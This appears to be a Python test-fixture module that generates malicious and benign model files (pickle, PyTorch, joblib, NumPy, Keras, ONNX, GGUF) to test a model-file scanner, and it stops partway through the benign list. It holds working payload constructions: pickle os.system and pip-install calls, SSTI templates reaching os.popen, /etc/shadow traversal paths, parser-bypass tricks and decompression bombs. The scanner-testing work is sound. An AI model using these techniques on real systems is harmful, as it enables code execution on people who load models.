"""A corpus of malicious and ordinary model files, built at run time (nothing malicious is committed).

Malicious pickles are assembled opcode by opcode; nothing here ever unpickles them. Their payloads are harmless
anyway (`echo pwned`). Used by tests/test_scan_*.py and benchmarks/scan_peers.py.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import lru_cache
from pathlib import Path

HDF5_MAGIC = b"\x89HDF\r\n\x1a\n"


@dataclass
class Case:
    name: str  # file name, the extension only helps humans and peer tools
    data: bytes
    min_severity: str = "high"  # the scan must report at least this
    expect: str | None = None  # a global name or rule the findings must mention
    group: str = ""


# ---- a tiny pickle assembler ---------------------------------------------------------------------------------

MARK, STOP, TUPLE, REDUCE, POP, BUILD = b"(", b".", b"t", b"R", b"0", b"b"
TUPLE1, TUPLE2, STACK_GLOBAL, MEMOIZE, EMPTY_DICT, EMPTY_TUPLE, NEWOBJ = b"\x85", b"\x86", b"\x93", b"\x94", b"}", \
    b")", b"\x81"


def proto(n: int = 4) -> bytes:
    return b"\x80" + bytes([n])


def glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(s: str) -> bytes:
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def blob(b: bytes) -> bytes:
    return b"C" + bytes([len(b)]) + b if len(b) < 256 else b"B" + struct.pack("<I", len(b)) + b


def put(i: int) -> bytes:
    return b"q" + bytes([i])


def get(i: int) -> bytes:
    return b"h" + bytes([i])


def call(func: bytes, *args: bytes) -> bytes:
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def stack_global(module: str, name: str) -> bytes:
    return text(module) + text(name) + STACK_GLOBAL


OS_SYSTEM = proto(2) + call(glob("os", "system"), b"S'echo pwned'\n") + STOP


# ---- a recording unpickler: CPython's own parser, safe on hostile bytes ---------------------------------------

class _Stub:
    """Whatever the recording unpickler hands out: accepts every call, item, attribute and state, does nothing."""

    def __init__(self, *args: object, **kwargs: object) -> None:
        pass

    def __call__(self, *args: object, **kwargs: object) -> _Stub:
        return _Stub()

    def __getattr__(self, name: str) -> _Stub:
        return _Stub()

    def __setstate__(self, state: object) -> None:
        pass

    def __setitem__(self, key: object, value: object) -> None:
        pass


class RecordingUnpickler(pickle.Unpickler):
    """CPython's C unpickler whose `find_class` records (module, name) and returns a stub: nothing is imported or
    run, so it can parse hostile bytes and show which callables a real `pickle.load` would reach."""

    def __init__(self, data: bytes):
        super().__init__(io.BytesIO(data))
        self.reached: list[tuple[str, str]] = []

    def find_class(self, module: str, name: str) -> type:
        self.reached.append((module, name))
        return _Stub


def cpython_reads(data: bytes) -> tuple[list[tuple[str, str]], bool]:
    """(the callables pickle.load reaches, whether it parses the stream to STOP without an error)."""
    unpickler = RecordingUnpickler(data)
    try:
        unpickler.load()
    except Exception:  # noqa: BLE001 - any parse failure of hostile bytes is an answer here
        return unpickler.reached, False
    return unpickler.reached, True


def tar_of(name: str, body: bytes, typeflag: bytes = b"0", signed: bool = False) -> bytes:
    """A one-member tar with a chosen typeflag, its checksum summed unsigned or (old tars) signed."""
    import tarfile

    info = tarfile.TarInfo(name)
    info.size = len(body)
    header = bytearray(info.tobuf(format=tarfile.USTAR_FORMAT))
    header[156:157] = typeflag
    header[148:156] = b" " * 8
    total = 256 + (sum(struct.unpack_from("148b8x356b", header)) if signed else sum(header[:148]) + sum(header[156:]))
    header[148:156] = b"%06o\x00 " % total
    return bytes(header) + body + bytes(-len(body) % 512) + bytes(1024)


def _npy_raw(header: str) -> bytes:
    """A version 1.0 .npy header holding exactly `header` (NumPy reads Python-2 headers such as `(1L,)` too)."""
    header += " " * (-(len(header) + 11) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1")


def _zip_lower_count(data: bytes, count: int) -> bytes:
    out = bytearray(data)
    eocd = out.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", out, eocd + 8, count, count)
    return bytes(out)


def _deflate_bomb(name: str, size: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr(name, b"\x80\x02" + bytes(size))
    return buf.getvalue()


def _fanout(inner: bytes, fan: int, depth: int) -> bytes:
    """pickle.loads of the same memoised payload `fan` times per level, `depth` levels deep (fan**depth scans)."""
    payload = inner
    for _ in range(depth):
        body = proto(4) + blob(payload) + put(0) + POP
        body += (glob("pickle", "loads") + get(0) + TUPLE1 + REDUCE + POP) * fan
        payload = body + b"N" + STOP
    return payload


SSTI = "{{ ().__class__.__base__.__subclasses__()[100].__init__.__globals__['os'].popen('echo pwned').read() }}"


def bypass_cases() -> list[Case]:
    """The inputs of issue 14 that once passed as clean: parser quirks, archive-reader disagreements, template
    spellings, unbounded work and unopenable archives."""
    call_system = b"cos\nsystem\n(S'echo pwned'\ntR"
    struct_descr = "{'descr': [('a', '<f4'), ('b', 'object')], 'fortran_order': False, 'shape': (1,), }"
    struct_descr += " " * (-(len(struct_descr) + 11) % 64) + "\n"
    upper = io.BytesIO()
    with zipfile.ZipFile(upper, "w") as z:
        z.writestr("archive/DATA.PKL", OS_SYSTEM)
        z.writestr("archive/data/0", bytes(16))
        z.writestr("archive/version", b"3\n")

    def template(t: str, **extra: object) -> bytes:
        return json.dumps({"chat_template": t, **extra}).encode()

    return [
        Case("p0_int_octal.pkl", b"I017\n0" + call_system + b".", "critical", "os.system", "parity"),
        Case("p0_int_bool.pkl", b"I01\n0" + call_system + b".", "critical", "os.system", "parity"),
        Case("p0_int_nul.pkl", b"I1\x002\n0" + call_system + b".", "critical", "os.system", "parity"),
        Case("p0_float_nul.pkl", b"F1.5\x00x\n0" + call_system + b".", "critical", "os.system", "parity"),
        Case("p0_long_nul.pkl", b"L12\x00zz\n0" + call_system + b".", "critical", "os.system", "parity"),
        Case("p0_long_line.pkl", b"S'" + b"a" * ((1 << 20) + 64) + b"'\n0" + call_system + b".", "critical",
             "os.system", "parity"),
        Case("p0_get_leading_zero.pkl", b"cos\nsystem\np007\n0g07\n(S'echo pwned'\ntR.", "critical", "os.system",
             "parity"),
        Case("broken_after_call.pkl", call_system + b"\xff\xfe garbage", "critical", "os.system", "parity"),
        Case("broken_after_call_p2.pkl", proto(2) + call(glob("os", "system"), text("echo pwned")) + b"\xff",
             "critical", "os.system", "parity"),
        Case("truncated_after_call.pkl", proto(2) + call(glob("os", "system"), text("echo pwned")), "critical",
             "os.system", "parity"),
        Case("zip_upper_data_pkl.pt", upper.getvalue(), "critical", "os.system", "archive"),
        Case("zip_eocd_count.pt", _zip_lower_count(torch_zip(pickle.dumps({}, 2), {"archive/extra.pkl": OS_SYSTEM}),
             4), "critical", "os.system", "archive"),
        Case("tar_unknown_type.tar", tar_of("evil.pkl", OS_SYSTEM, b"Z"), "critical", "os.system", "archive"),
        Case("tar_signed_checksum.tar", tar_of("\xe9vil.pkl", OS_SYSTEM, signed=True), "critical", "os.system",
             "archive"),
        Case("npy_descr_object.npy", npy_header("object", (1,)) + OS_SYSTEM, "critical", "os.system", "archive"),
        Case("npy_descr_O8.npy", npy_header("O8", (1,)) + OS_SYSTEM, "critical", "os.system", "archive"),
        Case("npy_struct_object.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(struct_descr))
             + struct_descr.encode() + OS_SYSTEM, "critical", "os.system", "archive"),
        Case("npy_python2_header.npy", _npy_raw("{'descr': '|O', 'fortran_order': False, 'shape': (1L,), }")
             + OS_SYSTEM, "critical", "os.system", "archive"),
        Case("archive.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40), "high", "unverifiable", "archive"),
        Case("archive.rar", b"Rar!\x1a\x07\x01\x00" + bytes(40), "high", "unverifiable", "archive"),
        Case("tpl_concat.json", template("{{ ()['__cla'~'ss__']['__ba'~'se__']['__subcl'~'asses__']() }}"),
             "critical", "template-injection", "template"),
        Case("tpl_hex_escape.json", template("{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}"), "critical",
             "template-injection", "template"),
        Case("tpl_attr_filter.json", template("{{ x|attr('__init__')|attr('__globals__') }}"), "critical",
             "template-injection", "template"),
        Case("tpl_map_attribute.json", template("{{ xs|map(attribute='__class__')|list }}"), "critical",
             "template-injection", "template"),
        Case("tpl_set_concat.json", template("{% set a = '__gl' %}{% set b = a ~ 'obals__' %}{{ f[b] }}"),
             "high", "template-injection", "template"),
        Case("tpl_key_from_config.json", template("{{ cycler.__init__[bos_token] }}", bos_token="__globals__"),
             "high", "template-injection", "template"),
        Case("tpl_escaped_key.json", b'{"chat\\u005ftemplate": ' + json.dumps(SSTI).encode() + b"}", "critical",
             "template-injection", "template"),
        Case("tpl_after_4mib.json", json.dumps({"added_tokens": "x" * (5 << 20), "chat_template": SSTI}).encode(),
             "critical", "template-injection", "template"),
        Case("tpl_repeated_key.json", b'{"chat_template": ' + json.dumps(SSTI).encode()
             + b', "chat_template": "{{ m.content }}"}', "critical", "template-injection", "template"),
        Case("tpl_class_name_key.json", template(SSTI, class_name="PreTrainedTokenizerFast"), "critical",
             "template-injection", "template"),
        Case("tpl_concat.gguf", gguf("{{ x['__in'~'it__']['__glo'~'bals__'] }}"), "critical", "template-injection",
             "template"),
        Case("nested_fanout.pkl", _fanout(OS_SYSTEM, 40, 5), "critical", "os.system", "bounds"),
        Case("zip_bomb.pt", _deflate_bomb("archive/data.pkl", 80 << 20), "high", "limit", "bounds"),
        Case("gzip_bomb.pkl.gz", gzip.compress(b"\x80\x02" + bytes(80 << 20), 9), "high", "limit", "bounds"),
    ]


# ---- containers ------------------------------------------------------------------------------------------------

def torch_zip(data_pkl: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A PyTorch-style zip (archive/data.pkl, version, byteorder, one storage)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("archive/data.pkl", data_pkl)
        z.writestr("archive/byteorder", b"little")
        z.writestr("archive/data/0", struct.pack("<4f", 1, 2, 3, 4))
        z.writestr("archive/version", b"3\n")
        for name, body in (extra or {}).items():
            z.writestr(name, body)
    return buf.getvalue()


def npy_header(descr: str, shape: tuple) -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}"
    header += " " * ((64 - (len(header) + 11) % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1")


def zip_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, body in members.items():
            z.writestr(name, body)
    return buf.getvalue()


def keras_zip(config: dict) -> bytes:
    return zip_of({"metadata.json": json.dumps({"keras_version": "3.6.0"}).encode(),
                   "config.json": json.dumps(config).encode(), "model.weights.h5": HDF5_MAGIC + bytes(504)})


def dense_config(activation: object = "relu", extra_layers: list | None = None) -> dict:
    layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
             "config": {"name": "dense", "units": 3, "activation": activation, "use_bias": True}}
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "layers": [layer, *(extra_layers or [])]}}


def fake_h5(config: dict) -> bytes:
    """HDF5 signature plus a root attribute area holding the Keras model_config JSON (layout simplified)."""
    return HDF5_MAGIC + bytes(88) + b"model_config\x00\x00\x00\x00" + json.dumps(config).encode() + bytes(256)


# ---- protobuf writer for ONNX models --------------------------------------------------------------------------

def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb(field: int, value: int | bytes | str) -> bytes:
    if isinstance(value, int):
        return _varint(field << 3) + _varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return _varint(field << 3 | 2) + _varint(len(raw)) + raw


def onnx_model(external: str | None = None, domain: str = "") -> bytes:
    """y = Relu(x) (+ an optional initializer stored in an external file, optional custom domain)."""
    float_type = pb(1, pb(1, 1) + pb(2, pb(1, pb(1, 1)) + pb(1, pb(1, 3))))  # tensor(float)[1, 3]
    node = pb(1, "x") + pb(2, "y") + pb(3, "relu") + pb(4, "Relu") + (pb(7, domain) if domain else b"")
    graph = pb(1, node) + pb(2, "g") + pb(11, pb(1, "x") + pb(2, float_type)) + pb(12, pb(1, "y") + pb(2, float_type))
    if external is not None:
        tensor = (pb(1, 3) + pb(2, 1) + pb(8, "w") + pb(13, pb(1, "location") + pb(2, external))
                  + pb(13, pb(1, "length") + pb(2, "12")) + pb(14, 1))
        graph += pb(5, tensor)
    opsets = pb(8, pb(2, 13)) + (pb(8, pb(1, domain) + pb(2, 1)) if domain else b"")
    return pb(1, 8) + pb(2, "bastion-corpus") + opsets + pb(7, graph)


def gguf(template: str) -> bytes:
    """A GGUF v3 file with no tensors and a few metadata keys, including a chat template."""
    def kv_string(key: str, value: str) -> bytes:
        k, v = key.encode(), value.encode()
        return struct.pack("<Q", len(k)) + k + struct.pack("<IQ", 8, len(v)) + v

    ctx = b"llama.context_length"
    tokens = b"tokenizer.ggml.tokens"
    body = (kv_string("general.architecture", "llama") + struct.pack("<Q", len(ctx)) + ctx + struct.pack("<II", 4, 2048)
            + struct.pack("<Q", len(tokens)) + tokens + struct.pack("<IIQ", 9, 8, 2) + struct.pack("<Q", 1) + b"a"
            + struct.pack("<Q", 1) + b"b" + kv_string("tokenizer.chat_template", template))
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 4) + body


CHATML_TEMPLATE = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
                   "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
                   "{% endif %}")
LLAMA3_TEMPLATE = ("{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = "
                   "'<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + "
                   "'<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}"
                   "{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant"
                   "<|end_header_id|>\\n\\n' }}{% endif %}")
MISTRAL_TEMPLATE = ("{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != "
                    "(loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate "
                    "user/assistant/user/assistant/...') }}"
                    "{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
                    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token }}{% endif %}"
                    "{% endfor %}")
TOOLS_TEMPLATE = ("{% set ns = namespace(system=none) %}{% for m in messages %}{% if m.role == 'system' %}"
                  "{% set ns.system = m.content %}{% endif %}{% endfor %}{% if tools %}{% for t in tools %}"
                  "{{ t | tojson(indent=2) }}{% endfor %}{% endif %}{% for m in messages[1:] %}{% generation %}"
                  "{{ m['content'] }}{% endgeneration %}{% endfor %}Note: use os.path and subprocess.run() in prose.")
CHAT_TEMPLATE = ("{% for message in messages %}<|{{ message['role'] }}|>{{ message['content'] }}{% endfor %}"
                 "{% if add_generation_prompt %}<|assistant|>{% endif %}")


# ---- malicious corpus ---------------------------------------------------------------------------------------------

def _zip_patch_local_name(data: bytes, old: bytes, new: bytes) -> bytes:
    j = data.index(old)  # local headers come first, so this is the local header's copy of the name
    return data[:j] + new + data[j + len(new):]


def _zip_set_flag(data: bytes, name: bytes, flag: int) -> bytes:
    out = bytearray(data)
    for sig, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        pos = out.find(sig)
        while pos >= 0:
            n = struct.unpack_from("<H", out, pos + (26 if sig == b"PK\x03\x04" else 28))[0]
            if bytes(out[pos + name_at:pos + name_at + n]) == name:
                struct.pack_into("<H", out, pos + flag_at, struct.unpack_from("<H", out, pos + flag_at)[0] | flag)
            pos = out.find(sig, pos + 4)
    return bytes(out)


def _zip_set_method(data: bytes, name: bytes, method: int) -> bytes:
    out = bytearray(data)
    for sig, method_at, name_at, len_at in ((b"PK\x03\x04", 8, 30, 26), (b"PK\x01\x02", 10, 46, 28)):
        pos = out.find(sig)
        while pos >= 0:
            n = struct.unpack_from("<H", out, pos + len_at)[0]
            if bytes(out[pos + name_at:pos + name_at + n]) == name:
                struct.pack_into("<H", out, pos + method_at, method)
            pos = out.find(sig, pos + 4)
    return bytes(out)


def _joblib_wrapper(payload: bytes, aligned: bool, maker: bytes | None = None) -> bytes:
    """A joblib NumpyArrayWrapper for a uint8 array whose raw bytes are `payload` (`maker` builds the object)."""
    dtype = call(glob("numpy", "dtype"), text("u1"), b"\x89", b"\x88") + MARK + b"K\x03" + text("|") + b"NNNJ\xff\xff" \
        b"\xff\xffJ\xff\xff\xff\xffK\x00" + TUPLE + BUILD
    state = EMPTY_DICT + MARK + text("subclass") + glob("numpy", "ndarray") + text("shape") + b"M" \
        + struct.pack("<H", len(payload)) + TUPLE1 + text("order") + text("C") + text("dtype") + dtype \
        + text("allow_mmap") + b"\x89" + (text("numpy_array_alignment_bytes") + b"K\x10" if aligned else b"") + b"u"
    padding = b"\x00" if aligned else b""  # a zero padding length: no alignment bytes follow
    maker = maker or glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ
    return maker + state + BUILD + padding + payload


def malicious_cases() -> list[Case]:
    """Every known way for a model file to run code, each as a file body."""
    inner = OS_SYSTEM
    cases = [
        Case("reduce_os_system.pkl", OS_SYSTEM, "critical", "os.system", "pickle"),
        Case("posix_system_p0.pkl", b"cposix\nsystem\n(S'echo pwned'\ntR.", "critical", "posix.system", "pickle"),
        Case("builtin_eval_p0.pkl", b"c__builtin__\neval\n(S'1+1'\ntR.", "critical", "builtins.eval", "pickle"),
        Case("inst_opcode.pkl", b"(S'echo pwned'\nios\nsystem\n.", "critical", "os.system", "pickle"),
        Case("obj_opcode.pkl", b"(cos\nsystem\nS'echo pwned'\no.", "critical", "os.system", "pickle"),
        Case("stack_global_memo.pkl", proto(4) + text("builtins") + MEMOIZE + POP + text("os") + MEMOIZE + POP
             + text("collections") + text("OrderedDict") + POP + POP + get(1) + text("system") + STACK_GLOBAL
             + text("echo pwned") + TUPLE1 + REDUCE + STOP, "critical", "os.system", "memo"),
        Case("memo_overwrite.pkl", proto(4) + text("collections") + put(0) + POP + text("os") + put(0) + POP
             + get(0) + text("system") + STACK_GLOBAL + text("echo pwned") + TUPLE1 + REDUCE + STOP,
             "critical", "os.system", "memo"),
        Case("dotted_name.pkl", proto(4) + stack_global("torch.serialization", "os.system") + text("echo pwned")
             + TUPLE1 + REDUCE + STOP, "critical", "torch.serialization.os.system", "memo"),
        Case("dynamic_global.pkl", proto(4) + call(glob("builtins", "str"), text("os")) + text("system")
             + STACK_GLOBAL + text("echo") + TUPLE1 + REDUCE + STOP, "high", "dynamic-call", "memo"),
        Case("nested_loads.pkl", proto(4) + call(glob("pickle", "loads"), blob(inner)) + STOP, "critical",
             "os.system", "nested"),
        Case("nested_loads_b64_zlib.pkl", proto(4) + call(glob("pickle", "loads"), call(
            glob("zlib", "decompress"), call(glob("base64", "b64decode"), text(base64.b64encode(
                zlib.compress(inner)).decode())))) + STOP, "critical", "os.system", "nested"),
        Case("nested_latin1_p2.pkl", proto(2) + call(glob("_pickle", "loads"), call(
            glob("_codecs", "encode"), b"X" + struct.pack("<I", len(inner.decode("latin-1").encode()))
            + inner.decode("latin-1").encode(), text("latin1"))) + STOP, "critical", "os.system", "nested"),
        Case("load_from_bytes.pkl", proto(4) + call(glob("torch.storage", "_load_from_bytes"), blob(inner)) + STOP,
             "critical", "os.system", "nested"),
        Case("getattr_import.pkl", proto(2) + call(call(glob("builtins", "getattr"), call(
            glob("builtins", "__import__"), text("os")), text("system")), text("echo pwned")) + STOP,
            "critical", "os.system", "getattr"),
        Case("getattr_chain.pkl", proto(2) + call(call(glob("builtins", "getattr"), call(
            glob("builtins", "getattr"), glob("collections", "OrderedDict"), text("__init__")),
            text("__globals__")), text("x")) + STOP, "high", "builtins.getattr", "getattr"),
        Case("importlib.pkl", proto(2) + call(call(glob("builtins", "getattr"), call(
            glob("importlib", "import_module"), text("subprocess")), text("check_output")), text("id")) + STOP,
            "critical", "subprocess.check_output", "getattr"),
        Case("ufunc_reconstruct.pkl", proto(2) + call(call(glob("numpy.core", "_ufunc_reconstruct"), text("os"),
             text("system")), text("echo pwned")) + STOP, "critical", "os.system", "getattr"),
        Case("operator_attrgetter.pkl", proto(2) + call(call(glob("operator", "attrgetter"), text("system")),
             glob("os", "path")) + STOP, "critical", "operator.attrgetter", "getattr"),
        Case("functools_partial.pkl", proto(2) + call(call(glob("functools", "partial"), glob("os", "system"),
             text("echo pwned")), b"") + STOP, "critical", "os.system", "getattr"),
        Case("marshal_code.pkl", proto(4) + call(call(glob("types", "FunctionType"), call(
            glob("marshal", "loads"), blob(b"\xe3" + bytes(40))), EMPTY_DICT), b"") + STOP, "critical",
            "marshal.loads", "code"),
        Case("pip_install.pkl", proto(2) + call(glob("pip", "main"), b"]" + text("install") + b"a" + text("evil")
             + b"a") + STOP, "critical", "pip.main", "code"),
        Case("runpy.pkl", proto(2) + call(glob("runpy", "_run_code"), text("import os; os.system('echo pwned')"),
             EMPTY_DICT) + STOP, "critical", "runpy._run_code", "code"),
        Case("timeit.pkl", b"ctimeit\ntimeit\n(S'print(1)'\ntR.", "critical", "timeit.timeit", "code"),
        Case("numpy_runstring.pkl", proto(2) + call(glob("numpy.testing._private.utils", "runstring"),
             text("print(1)"), EMPTY_DICT) + STOP, "critical", "runstring", "code"),
        Case("unknown_global.pkl", proto(2) + call(glob("evil_module", "payload"), b"") + STOP, "high",
             "evil_module.payload", "code"),
        Case("build_on_global.pkl", b"ccollections\nOrderedDict\n}S'x'\nI1\nsb.", "high", "object-mutation",
             "code"),
        Case("ext_registry.pkl", proto(2) + b"\x82\x01" + EMPTY_TUPLE + REDUCE + STOP, "high", "dynamic-call",
             "code"),
        Case("torch_data_pkl.pt", torch_zip(OS_SYSTEM), "critical", "os.system", "pytorch"),
        Case("torch_legacy.pt", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
             + pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2) + OS_SYSTEM
             + pickle.dumps([], 2), "critical", "os.system", "pytorch"),
        Case("torchscript_constants.pt", torch_zip(pickle.dumps({}, 2), {"archive/constants.pkl": OS_SYSTEM,
             "archive/code/__torch__/m.py": b"def forward(self):\n  pass\n"}), "critical", "os.system", "pytorch"),
        Case("payload.pkl.gz", gzip.compress(OS_SYSTEM), "critical", "os.system", "compressed"),
        Case("payload.pkl.bz2", bz2.compress(OS_SYSTEM), "critical", "os.system", "compressed"),
        Case("payload.pkl.xz", lzma.compress(OS_SYSTEM), "critical", "os.system", "compressed"),
        Case("payload.joblib.z", zlib.compress(OS_SYSTEM), "critical", "os.system", "compressed"),
        Case("payload.joblib.lzma", lzma.compress(OS_SYSTEM, format=lzma.FORMAT_ALONE), "critical", "os.system",
             "compressed"),
        Case("nested_zip_gzip.zip", zip_of({"inner/model.pt.gz": gzip.compress(torch_zip(OS_SYSTEM))}),
             "critical", "os.system", "compressed"),
        Case("joblib_tail.joblib", proto(4) + _joblib_wrapper(b"\x01\x02\x03\x04", True) + POP
             + glob("os", "system") + text("echo pwned") + TUPLE1 + REDUCE + STOP, "critical", "os.system", "joblib"),
        Case("joblib_array_hides_opcodes.joblib", proto(4) + _joblib_wrapper(OS_SYSTEM[2:], False) + STOP,
             "critical", "os.system", "joblib"),
        Case("joblib_reconstructor_wrapper.joblib", proto(4) + _joblib_wrapper(b"N.", False, call(
            glob("copyreg", "_reconstructor"), glob("joblib.numpy_pickle", "NumpyArrayWrapper"),
            glob("builtins", "object"), b"N")) + POP + glob("os", "system") + text("echo pwned") + TUPLE1 + REDUCE
            + STOP, "critical", "os.system", "joblib"),
        Case("joblib_factory_wrapper.joblib", proto(4) + _joblib_wrapper(b"N.", False, call(
            glob("sklearn.metrics._dist_metrics", "newObj"), glob("joblib.numpy_pickle", "NumpyArrayWrapper")))
            + POP + glob("os", "system") + text("echo pwned") + TUPLE1 + REDUCE + STOP, "high", "malformed",
            "joblib"),
        Case("joblib_zfile.pkl", b"ZF" + b"0x1d".ljust(19) + zlib.compress(OS_SYSTEM), "critical", "os.system",
             "joblib"),
        Case("numpy_object.npy", npy_header("|O", (1,)) + OS_SYSTEM, "critical", "os.system", "numpy"),
        Case("numpy_object.npz", zip_of({"x.npy": npy_header("|O", (1,)) + OS_SYSTEM}), "critical", "os.system",
             "numpy"),
        Case("keras_lambda.keras", keras_zip(dense_config(extra_layers=[{
            "module": "keras.layers", "class_name": "Lambda", "config": {"name": "lambda", "function": {
                "class_name": "__lambda__", "config": {"code": base64.b64encode(
                    b"\xe3\x00os\x00system\x00echo pwned").decode(), "defaults": None, "closure": None}}}}])),
            "critical", "keras-lambda", "keras"),
        Case("keras_module_ref.keras", keras_zip(dense_config(activation={
            "module": "os", "class_name": "function", "config": "system", "registered_name": "system"})),
            "critical", "os.system", "keras"),
        Case("keras_get_file.keras", keras_zip(dense_config(activation={
            "module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": None})),
            "high", "keras.utils.get_file", "keras"),
        Case("keras_lambda_legacy.h5", fake_h5({"class_name": "Sequential", "config": {"layers": [{
            "class_name": "Lambda", "config": {"name": "l", "function": [base64.b64encode(
                b"\xe3os\x00system").decode(), None, None], "function_type": "lambda"}}]}}),
            "critical", "keras-lambda", "keras"),
        Case("ssti_template.gguf", gguf("{{ ().__class__.__base__.__subclasses__()[100].__init__.__globals__"
             "['os'].popen('echo pwned').read() }}"), "critical", "template-injection", "template"),
        Case("tokenizer_config.json", json.dumps({"chat_template": "{{ cycler.__init__.__globals__.os.popen("
             "'echo pwned').read() }}", "bos_token": "<s>"}).encode(), "critical", "template-injection", "template"),
        Case("onnx_traversal.onnx", onnx_model(external="../../../../etc/passwd"), "high", "onnx-external-data",
             "onnx"),
        Case("onnx_absolute.onnx", onnx_model(external="/etc/shadow"), "high", "onnx-external-data", "onnx"),
        Case("zip_name_mismatch.pt", _zip_patch_local_name(torch_zip(OS_SYSTEM), b"archive/data.pkl",
             b"archive/xata.pkl"), "critical", "os.system", "zip"),
        Case("zip_encrypted_flag.pt", _zip_set_flag(torch_zip(OS_SYSTEM), b"archive/data.pkl", 1), "critical",
             "os.system", "zip"),
        Case("zip_duplicate.pt", _duplicate_zip(), "critical", "os.system", "zip"),
        Case("zip_traversal.zip", zip_of({"../../evil.pkl": OS_SYSTEM}), "critical", "os.system", "zip"),
        Case("zip_bad_method.pt", _zip_set_method(torch_zip(OS_SYSTEM), b"archive/data.pkl", 99), "high",
             "malformed", "zip"),
        Case("polyglot_pickle_zip.pt", OS_SYSTEM + torch_zip(pickle.dumps({}, 2)), "critical", "os.system",
             "polyglot"),
        Case("polyglot_pickle_npz.npz", _npy_pickle_polyglot(), "critical", "os.system", "polyglot"),
    ]
    return cases


def _duplicate_zip() -> bytes:
    buf = io.BytesIO()
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("archive/data.pkl", pickle.dumps({}, 2))
            z.writestr("archive/version", b"3\n")
            z.writestr("archive/data.pkl", OS_SYSTEM)
    return buf.getvalue()


def _npy_pickle_polyglot() -> bytes:
    """A ZIP (npz) whose leading bytes are a complete malicious pickle: np.load and pickle.load disagree."""
    return OS_SYSTEM + zip_of({"x.npy": npy_header("<f4", (2,)) + struct.pack("<2f", 1, 2)})


def write_cases(cases: list[Case], folder: Path) -> list[Path]:
    """Write each case into `folder` (one file each); return the paths in order."""
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for case in cases:
        path = folder / case.name
        path.write_bytes(case.data)
        paths.append(path)
    return paths


# ---- ordinary files ------------------------------------------------------------------------------------------------

@lru_cache(maxsize=1)
def benign_cases() -> tuple[Case, ...]:
    """Ordinary model files made by the real libraries: none may be flagged (min_severity is 'low')."""
    import warnings

    import joblib
    import numpy as np
    import skops.io as sio
    import torch
    from safetensors.numpy import save as st_numpy
    from safetensors.torch import save as st_torch
    from sklearn.cluster import KMeans
    from sklearn.datasets import load_iris
    from sklearn.decomposition import PCA
    from sklearn.ensemble import GradientBoostingClassifier, HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.naive_bayes import GaussianNB
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier
    from threadpoolctl import threadpool_limits

    x, y = load_iris(return_X_y=True)
    cases: list[Case] = []

    def add(name: str, data: bytes, group: str) -> None:
        cases.append(Case(name, data, "low", None, group))

    def dumped(obj: object, **kwargs: object) -> bytes:
        buf = io.BytesIO()
        joblib.dump(obj, buf, **kwargs)
        return buf.getvalue()

    with warnings.catch_warnings(), threadpool_limits(1):
        warnings.simplefilter("ignore")
        estimators = {
            "logreg": LogisticRegression(max_iter=300), "forest": RandomForestClassifier(8, random_state=0),
            "gboost": GradientBoostingClassifier(n_estimators=5), "histgb": HistGradientBoostingClassifier(max_iter=5),
            "svc": make_pipeline(StandardScaler(), SVC()), "knn": KNeighborsClassifier(),
            "mlp": MLPClassifier((8,), max_iter=30, random_state=0), "nb": GaussianNB(),
